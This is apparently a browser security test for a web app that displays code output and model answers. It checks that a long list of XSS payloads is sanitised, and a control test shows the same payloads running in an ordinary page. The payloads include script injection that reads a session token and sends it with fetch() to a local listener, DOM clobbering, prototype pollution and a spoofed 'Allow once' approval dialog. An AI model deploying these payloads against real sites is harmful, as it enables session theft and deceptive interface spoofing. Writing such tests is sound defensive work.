"""What code shows and what a model says can neither run scripts in the page, nor send anything, nor read the token."""

from __future__ import annotations

import re
import socket
import sys
import threading
from collections.abc import Callable, Generator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import BrowserContext, expect
from tests.conftest import DATA_PYTHON
from tests.front.server.served import Served

pytestmark = [
    pytest.mark.safety,
    pytest.mark.browser,
    pytest.mark.skipif(sys.platform != "linux", reason="namespaces are Linux's"),
]
expect.set_options(timeout=60_000)
SCRIPT = "top.pwned = 1; fetch('{url}/?t=' + top.sessionStorage.getItem('pinfold-token'))"
HOSTILE = (
    "<script>{script}</script>",
    '<img src="{url}/a.png" onerror="{script}">',
    '<img src=x onerror="{script}">',
    '<svg onload="{script}"><image href="{url}/b.png"/></svg>',
    '<iframe src="{url}/c"></iframe>',
    '<iframe srcdoc="<script>{script}</script>"></iframe>',
    '<iframe src="javascript:{script}"></iframe>',
    '<object data="{url}/d"></object><embed src="{url}/e">',
    '<link rel="stylesheet" href="{url}/f.css"><style>@import url("{url}/g.css"); body {{ background: url("{url}/h.png") }}</style>',
    '<div style="background: url({url}/i.png)">x</div>',
    '<meta http-equiv="refresh" content="0; url={url}/j">',
    '<base href="{url}/"><img src="k.png">',
    '<video src="{url}/l.mp4" autoplay></video><audio src="{url}/m.mp3" autoplay></audio>',
    '<details open ontoggle="{script}"><summary>x</summary></details>',
    '<form action="{url}/n"><input autofocus onfocus="{script}"></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{script}"></style></mglyph></table></mtext></math>',
    '<table class="dataframe"><thead><tr><th>a</th></tr></thead><tbody><tr><td><b onclick="{script}">x</b></td></tr></tbody></table>',
    '<link rel="prefetch" href="{url}/o"><link rel="dns-prefetch" href="{url}"><link rel="preconnect" href="{url}">',
    '<a href="javascript:{script}" id="x">x</a><script src="{url}/p.js"></script>',
    '![x]({url}/q.png) [y](javascript:{script}) <img src="{url}/r.png">',
    '<div class="drop" id="composer" data-cell="1" role="dialog">Your session has ended</div><dialog open>Sign in</dialog>',
    '<section class="approval" aria-label="Approval needed"><h2>x</h2><button onclick="{script}">Allow once</button></section>',
    '<form id="root" name="cookie"><img name="body" id="documentElement"><input name="querySelector"></form>',
    '<a href="{url}/s" ping="{url}/t">x</a><map name="m"><area href="//x.invalid" shape="default"></map>',
    '<svg><use href="{url}/u#x"/><a xlink:href="javascript:{script}"><set attributeName="href" to="{url}/v"/>x</a></svg>',
    '<template shadowrootmode="open"><link rel="preconnect" href="{url}"><iframe src="{url}/w"></iframe></template>',
    '<frameset><frame src="{url}/x"></frameset><portal src="{url}/y"></portal><fencedframe src="{url}/z"></fencedframe>',
    '<noscript><iframe src="{url}/1"></iframe></noscript><p style="position: fixed; inset: 0; background: red">x</p>',
    "[x](data:text/html,{script}) [y](vbscript:{script}) [z](blob:{url}/2) <x-y is=z onclick={script}>",
)
NAMES = r"""
import pandas as pd
from pathlib import Path
evil = "<img src=x onerror='top.pwned=1'>"
table = pd.DataFrame({evil: [evil, "\x1b]8;;javascript:top.pwned=1\x07x\x1b]8;;\x07"], "__proto__": [1, 2], "constructor": [3, 4]})
Path(evil.replace("/", "")).write_text(evil)
globals()[evil] = [{"__proto__": {"pwned": 1}, evil: evil}]
class Error(Exception):
    pass
Error.__name__ = Error.__qualname__ = evil
raise Error("\x1b[31m" + evil)
"""


class Listener(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Answer)
        self.asked: list[str] = []
        self.connections = 0
        self.heard = threading.Event()

    def get_request(self) -> tuple[socket.socket, object]:
        self.connections += 1  # one without a request tells a host name, too
        return super().get_request()


class Answer(BaseHTTPRequestHandler):
    server: Listener  # pyright: ignore[reportIncompatibleVariableOverride]

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        self.server.heard.set()
        self.send_response(200)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass


@pytest.fixture
def listener() -> Generator[Listener]:
    """Where hostile content wants to send things."""
    server = Listener()
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def hostile(listener: Listener) -> list[str]:
    url = f"http://127.0.0.1:{listener.server_port}"
    return [text.format(url=url, script=SCRIPT.format(url=url).replace('"', "&quot;")) for text in HOSTILE]


def test_hostile_displays_and_answers_do_nothing(
    context: BrowserContext, serve: Callable[..., Served], listener: Listener
) -> None:
    texts = hostile(listener)
    served = serve("keyboard")
    context.add_init_script(f"if (top === self) sessionStorage.setItem('pinfold-token', '{served.token}')")
    code = """
class Shown:
    def __init__(self, kind, text):
        self.bundle = {kind: text}
    def _repr_mimebundle_(self, include=None, exclude=None):
        return self.bundle
for text in texts:
    for kind in ("text/html", "image/svg+xml", "text/markdown"):
        display(Shown(kind, text))
    print(text)
"""
    with served.client() as client:
        session = client.post("/api/sessions", json={}).json()["id"]
    page = context.new_page()
    page.goto(f"{served.url}/#/{session}")
    page.get_by_role("button", name="Run", exact=True).click()
    conversation = page.get_by_label("Conversation")
    page.set_viewport_size({"width": 1280, "height": 30_000})  # what is far from the screen is not in the page
    for start in range(0, len(texts), 15):  # a cell shows at most 64
        page.get_by_label("Python to run").fill(f"texts = {texts[start : start + 15]!r}\n{code}")
        page.keyboard.press("Control+Enter")
        expect(conversation.locator("figure img")).to_have_count(min(start + 15, len(texts)))
    expect(conversation.locator(".prose")).to_have_count(len(texts))
    expect(conversation.locator(".waiting-picture")).to_have_count(0)
    frames = conversation.locator("iframe").evaluate_all(
        "all => all.map(one => [one.getAttribute('sandbox'), one.srcdoc])"
    )
    assert len(frames) > len(texts) / 2
    for sandbox, html in frames:
        assert sandbox == ""
        # A browser connects to what these name before a policy stops the load.
        assert not re.search("<(script|link|meta|base|iframe|frame|object|embed|portal|fencedframe|template)", html)
    # Nothing in the page itself that looks or is found like a part of it.
    assert (
        conversation.locator(".prose :is([id], [name], [role], [data-cell], [aria-label], [style], dialog)").count()
        == 0
    )
    assert conversation.locator(".prose [class]:not([class^=t-])").count() == 0
    assert page.locator("iframe:not(.html-display)").count() == 0

    page.get_by_label("Python to run").fill(NAMES)
    page.keyboard.press("Control+Enter")
    expect(conversation.locator(".output.error")).to_contain_text("<img src=x")
    with served.client() as client:
        client.patch(f"/api/sessions/{session}", json={"title": "<img src=x onerror='top.pwned=1'>\u202etxt"})
    for tab in ("Files", "Variables"):
        page.get_by_role("tab", name=tab).click()
        expect(page.get_by_role("tabpanel").get_by_text("<img src=x onerror=").first).to_be_visible()
    if DATA_PYTHON:
        page.get_by_role("tabpanel").locator("summary").filter(has_text="table").click()
        page.get_by_role("button", name="Open table").click()
        expect(page.get_by_role("cell", name="<img src=x onerror='top.pwned=1'>")).to_be_visible()
        expect(page.get_by_role("columnheader", name="__proto__")).to_be_visible()
    assert page.evaluate("[window.pwned, ({}).pwned, document.title]") == [None, None, page.title()]
    assert [listener.asked, listener.connections] == [[], 0]


def test_the_same_content_does_something_in_an_ordinary_page(context: BrowserContext, listener: Listener) -> None:
    """The control."""
    page = context.new_page()
    for text in hostile(listener)[:4]:
        page.set_content(f"<!doctype html><title>x</title>{text}")
    page.wait_for_function("window.pwned === 1")
    assert listener.heard.wait(60)
    assert listener.connections > 0
    page.set_content("<title>x</title>" + '<div class="drop" role="dialog">x</div><iframe src="about:blank"></iframe>')
    assert page.locator(":is([role], iframe)").count() == 2
